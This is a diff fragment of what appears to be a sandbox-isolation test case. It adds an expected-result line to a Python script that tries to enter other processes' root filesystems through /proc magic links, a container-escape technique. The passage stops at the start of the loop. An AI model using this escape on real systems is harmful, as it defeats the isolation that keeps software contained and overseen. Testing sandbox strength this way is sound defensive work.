@@ -1,5 +1,6 @@
 # attack: enter another root through the magic links of init and of every other process
 # must end: completed
+# below strong: refused at own = set(os.listdir("/"))
 import glob, os
 own = set(os.listdir("/"))
 for link in glob.glob("/proc/[0-9]*/root") + glob.glob("/proc/[0-9]*/task/*/root") + glob.glob("/proc/[0-9]*/cwd"):
